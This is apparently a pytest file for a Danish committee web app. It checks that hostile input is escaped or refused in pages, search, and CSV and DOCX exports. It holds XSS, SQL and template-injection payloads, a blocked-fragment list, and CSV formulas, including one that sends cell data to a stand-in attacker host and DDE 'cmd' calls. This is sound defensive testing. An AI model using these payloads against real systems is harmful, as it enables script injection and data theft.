"""Hostile and odd input through every text field: it comes back escaped and intact, or refused.

The corpus covers script tags, event handlers, javascript: URLs, SVG, broken markup, injected
htmx attributes (htmx would act on them if they reached the DOM as markup), bidi overrides,
zero-width characters, NUL bytes, emoji, Danish letters and oversized strings.
"""

import csv
import io
from html.parser import HTMLParser

import docx
import pytest
from markupsafe import escape
from sqlalchemy import select

from delib.extensions import db
from delib.models import Committee, Note, Participant, SubmissionNote, Summary, utcnow
from delib.models import Submission as SubmissionModel
from delib.sanitize import ALLOWED_TAGS, clean_html, one_line, plain_text, spreadsheet_cell
from tests.conftest import HX, text_of

CORPUS = [
    "<script>alert('x')</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">klik</a>',
    "javascript:alert(document.cookie)",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<div hx-get="/" hx-trigger="load">htmx</div>',
    "<div hx-post=/logout hx-trigger=load hx-target=body>",
    "<b>ufærdig <i>markup",
    '"><script>alert(1)</script><"',
    "' onmouseover='alert(1)",
    "'; DROP TABLE note; --",
    "{{ 7*7 }} {% if %}",
    "Skolen \u202eomvendt tekst\u202c og \u2066isoleret\u2069",
    "nul\x00byte og \x07klokke",
    "nul\u200bbredde\u200cikke-samler\u200dsamler",
    "Familie 👨\u200d👩\u200d👧\u200d👦, flag 🇩🇰 og 👍🏽",
    "Æblegrød på Ærø: æøå ÆØÅ",
    "linje 1\r\nlinje 2",
    "&lt;allerede escaped&gt; &amp; &#60;",
]

#: Raw markup that must never reach a page as markup, whatever was typed.
DANGEROUS = ["<script>alert", "<img src=x", "<svg", "<div hx-", 'href="javascript:',
             "' onmouseover='", "\" onmouseover"]

HUGE = "æ" * 100_000


def stored_form(payload: str) -> str:
    """What a multi-line text field keeps of a payload."""
    return plain_text(payload).strip()


def assert_shown_escaped(html: str, expected: str, where: str):
    """The value appears escaped, in full, and none of it appears as live markup."""
    assert str(escape(expected)) in html, f"{where}: {expected!r} not shown intact"
    for fragment in DANGEROUS:
        assert fragment not in html, f"{where}: raw {fragment!r} in the page"
    # Bidi overrides never reach a page (they could make a note read otherwise than it is).
    for ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\x00":
        assert ch not in html, f"{where}: control character {ch!r} in the page"


def _slot_url(committee):
    slot = committee.event.slots[0]
    return f"/udvalg/{committee.id}/pauser/{slot.id}"


@pytest.fixture
def committee(make_committee):
    return make_committee()


@pytest.fixture
def member(client, auth, committee):
    assert auth.join(committee, "Skribent").status_code == 302
    return client


def _post_note(client, committee, body, key):
    return client.post(_slot_url(committee) + "/noter", headers=HX, data={
        "body": body, "tasks": [committee.event.tasks[0].id], "client_key": key})


class TestNotes:
    def test_every_payload_is_stored_and_shown_intact(self, member, committee):
        for i, payload in enumerate(CORPUS):
            response = _post_note(member, committee, payload, f"hostile{i:04d}")
            assert response.status_code == 201, (payload, text_of(response))
            expected = stored_form(payload)
            note = db.session.scalar(select(Note).where(Note.client_key == f"hostile{i:04d}"))
            assert note.body == expected
            assert_shown_escaped(response.get_data(as_text=True), expected, "htmx answer")
        page = member.get(_slot_url(committee)).get_data(as_text=True)
        listing = member.get(_slot_url(committee) + "/noter", headers=HX).get_data(as_text=True)
        for payload in CORPUS:
            assert_shown_escaped(page, stored_form(payload), "break screen")
            assert_shown_escaped(listing, stored_form(payload), "polled list")

    def test_emoji_joiners_and_danish_letters_survive_exactly(self, member, committee):
        family = "Familie 👨\u200d👩\u200d👧\u200d👦 i Ærø 👍🏽"
        _post_note(member, committee, family, "emojikey001")
        assert db.session.scalar(select(Note.body)) == family

    def test_edit_with_payload_is_escaped_in_the_edit_form(self, member, committee):
        _post_note(member, committee, "Første udgave", "editkey0001")
        note = db.session.scalar(select(Note))
        for payload in CORPUS:
            db.session.refresh(note)
            response = member.post(f"/noter/{note.id}/rediger", data={
                "body": payload, "tasks": [committee.event.tasks[0].id],
                "version": note.version})
            assert response.status_code == 302, text_of(response)
            form = member.get(f"/noter/{note.id}/rediger").get_data(as_text=True)
            assert_shown_escaped(form, stored_form(payload), "edit form")

    def test_a_100_kb_note_is_refused_in_danish_and_nothing_is_saved(self, member, committee):
        response = _post_note(member, committee, HUGE, "hugekey0001")
        assert response.status_code == 422
        assert "Noten er for lang" in text_of(response)
        assert db.session.scalar(select(Note)) is None
        # The text comes back in the field, so nothing typed is lost.
        assert HUGE in response.get_data(as_text=True)

    def test_a_note_of_only_controls_is_empty(self, member, committee):
        response = _post_note(member, committee, "\x00\u202e\x07  \r\n", "emptykey001")
        assert response.status_code == 422
        assert "Noten er tom" in text_of(response)
        assert db.session.scalar(select(Note)) is None


NAME_PAYLOADS = [p for p in CORPUS if len(one_line(p)) <= 80]


class TestNames:
    def test_display_names_are_escaped_wherever_shown(self, app, make_client, make_user,
                                                      make_committee):
        chair = make_user(email="formand@example.dk")
        committee = make_committee(chair=chair)
        chair_client, chair_auth = make_client()
        chair_auth.login(chair.email)
        for i, payload in enumerate(NAME_PAYLOADS):
            client, auth = make_client()
            assert auth.join(committee, payload).status_code == 302, payload
            expected = one_line(payload)
            participant = db.session.scalar(
                select(Participant).order_by(Participant.id.desc()))
            assert participant.display_name == expected
            _post_note(client, committee, f"Note {i}", f"namekey{i:04d}")
            # Shown to the participant (menu, note author) and to the chair (participant list).
            assert_shown_escaped(client.get(_slot_url(committee)).get_data(as_text=True),
                                 expected, "break screen")
            assert_shown_escaped(
                chair_client.get(f"/udvalg/{committee.id}").get_data(as_text=True),
                expected, "committee page")

    def test_an_oversized_name_is_refused_in_danish(self, client, auth, committee):
        response = auth.join(committee, HUGE)
        assert response.status_code == 422
        assert "Navnet må højst være 80 tegn." in text_of(response)
        assert db.session.scalar(select(Participant)) is None

    def test_a_name_cannot_span_lines(self, client, auth, committee):
        auth.join(committee, "Anna\nBent\r\nCarl")
        assert db.session.scalar(select(Participant.display_name)) == "Anna Bent Carl"


class TestCommitteeNames:
    def test_committee_names_are_escaped_on_list_and_page(self, client, auth, make_user,
                                                          event):
        chair = make_user(email="formand@example.dk")
        auth.login(chair.email)
        for payload in [p for p in CORPUS if len(one_line(p)) <= 150]:
            response = client.post("/udvalg/nyt", data={
                "municipality": chair.municipality_code, "name": payload})
            assert response.status_code == 302, (payload, text_of(response))
            committee = db.session.scalar(select(Committee).order_by(Committee.id.desc()))
            expected = one_line(payload)
            assert committee.name == expected
            for url in ("/udvalg/", f"/udvalg/{committee.id}"):
                assert_shown_escaped(client.get(url).get_data(as_text=True), expected, url)

    def test_an_oversized_committee_name_is_refused_in_danish(self, client, auth, make_user):
        chair = make_user(email="formand@example.dk")
        auth.login(chair.email)
        response = client.post("/udvalg/nyt", data={"municipality": chair.municipality_code,
                                                   "name": HUGE})
        assert response.status_code == 422
        assert "Udvalgets navn må højst være 150 tegn." in text_of(response)
        assert db.session.scalar(select(Committee)) is None


class _TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))


class TestSanitiser:
    @pytest.mark.parametrize("payload", CORPUS)
    def test_clean_html_leaves_no_active_content(self, payload):
        parser = _TagCollector()
        parser.feed(str(clean_html(payload)))
        for tag, attrs in parser.tags:
            assert tag in ALLOWED_TAGS, (payload, tag)
            for name, value in attrs:
                assert name in ("href", "title", "rel"), (payload, name)
                if name == "href":
                    assert value.split(":", 1)[0] in ("http", "https", "mailto"), value

    def test_clean_html_keeps_the_allow_list(self):
        cleaned = str(clean_html('<p>Se <a href="https://www.kl.dk" onclick="x()">KL</a> '
                                 "<strong>nu</strong></p>"))
        assert cleaned == ('<p>Se <a href="https://www.kl.dk" rel="nofollow noopener noreferrer">'
                           "KL</a> <strong>nu</strong></p>")

    def test_plain_text_keeps_what_people_type(self):
        text = "Æøå 👨\u200d👩\u200d👧 nul\u200bbredde\tfane\nlinje"
        assert plain_text(text) == text
        assert plain_text("a\x00b\u202ec\u2066d\r\ne") == "abcd\ne"

    @pytest.mark.parametrize("value,expected", [
        ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Almindelig tekst", "Almindelig tekst"),
        (42, 42),
        (None, None),
    ])
    def test_spreadsheet_cells_never_become_formulas(self, value, expected):
        assert spreadsheet_cell(value) == expected


class TestReviewAndExports:
    """Summaries, actions and the exports of the chair's review carry the corpus intact too."""

    @pytest.fixture
    def chair_setup(self, client, auth, make_user, make_committee, make_client):
        chair = make_user(email="formand@example.dk")
        committee = make_committee(chair=chair)
        member, member_auth = make_client()
        member_auth.join(committee, "Skribent")
        for i, payload in enumerate(CORPUS + FORMULAS):
            assert _post_note(member, committee, payload, f"revkey{i:04d}").status_code == 201
        auth.login(chair.email)
        return committee

    def test_summaries_and_actions_are_escaped_wherever_shown(self, client, chair_setup):
        committee = chair_setup
        base = f"/udvalg/{committee.id}/gennemgang"
        tasks = committee.event.tasks
        for i, payload in enumerate(CORPUS):
            expected = stored_form(payload)
            task = tasks[i % len(tasks)]
            saved = db.session.scalar(select(Summary).where(
                Summary.committee_id == committee.id, Summary.task_id == task.id))
            response = client.post(f"{base}/resume/opgave/{task.id}", data={
                "body": payload, "version": str(saved.version if saved else 0)})
            assert response.status_code == 302, (payload, text_of(response))
            assert_shown_escaped(client.get(base).get_data(as_text=True), expected, "review")
            response = client.post(f"{base}/handlinger/ny", data={
                "task": str(task.id), "title": payload, "responsible": one_line(payload)[:200],
                "due_on": "", "status": "planned", "source_note": "", "source_summary": ""})
            assert response.status_code == 302, (payload, text_of(response))
            assert_shown_escaped(client.get(f"{base}/handlinger").get_data(as_text=True),
                                 expected, "actions")
        report = client.get(f"{base}/rapport").get_data(as_text=True)
        for payload in CORPUS:
            assert_shown_escaped(report, stored_form(payload), "printable report")

    def test_csv_export_keeps_text_and_neutralises_formulas(self, client, chair_setup):
        committee = chair_setup
        response = client.get(f"/udvalg/{committee.id}/gennemgang/noter.csv")
        assert response.status_code == 200
        rows = list(csv.reader(io.StringIO(response.get_data().decode("utf-8-sig")),
                               delimiter=";"))
        header, cells = rows[0], {row[rows[0].index("Note")] for row in rows[1:]}
        assert "Note" in header
        for payload in CORPUS:
            assert stored_form(payload) in cells, payload
        for formula in FORMULAS:
            assert "'" + formula in cells and formula not in cells, formula

    def test_docx_export_is_text_not_markup(self, client, chair_setup):
        committee = chair_setup
        response = client.get(f"/udvalg/{committee.id}/gennemgang/rapport.docx")
        assert response.status_code == 200
        document = docx.Document(io.BytesIO(response.get_data()))
        text = "\n".join(p.text for p in document.paragraphs)
        for payload in CORPUS:
            # Each line of a note is in the document as typed (Word keeps line breaks as such).
            for line in stored_form(payload).split("\n"):
                assert line in text, payload


#: Spreadsheet formulas a note might (maliciously) start with.
FORMULAS = ['=HYPERLINK("http://angriber.example/?"&A1;"Klik")', "+45 12 34 56 78",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]


class TestKlOverview:
    """What KL reads and searches: submitted notes with the corpus, and hostile queries."""

    @pytest.fixture
    def kl_client(self, app, event, make_user, make_committee, make_client):
        committee = make_committee()
        submission = SubmissionModel(
            committee=committee, event=event, municipality_code=committee.municipality_code,
            version=1, submitted_by_name="Formand", show_authors=False)
        for payload in CORPUS:
            SubmissionNote(submission=submission, event_id=event.id,
                           municipality_code=committee.municipality_code,
                           body=stored_form(payload) + " skolefravær", written_at=utcnow(),
                           slot_id=event.slots[0].id)
        db.session.add(submission)
        db.session.commit()
        analyst = make_user(role="kl_analyst", municipality=None, email="analytiker@kl.dk")
        client, auth = make_client()
        auth.login(analyst.email)
        return client

    def test_submitted_notes_are_escaped_in_the_overview_and_search(self, kl_client):
        listing = kl_client.get("/kl/noter").get_data(as_text=True)
        searched = kl_client.get("/kl/noter", query_string={"q": "skolefravær"})
        assert searched.status_code == 200
        for payload in CORPUS:
            assert_shown_escaped(listing, stored_form(payload), "KL notes")
        html = searched.get_data(as_text=True)
        assert "<mark>" in html
        for fragment in DANGEROUS:
            assert fragment not in html

    @pytest.mark.parametrize("query", ["<script>alert(1)</script>", '"><svg onload=alert(1)>',
                                       "\x00\u202e", "æøå " * 500])
    def test_hostile_queries_come_back_escaped(self, kl_client, query):
        response = kl_client.get("/kl/noter", query_string={"q": query})
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        for fragment in DANGEROUS:
            assert fragment not in html
        assert "\u202e" not in html and "\x00" not in html
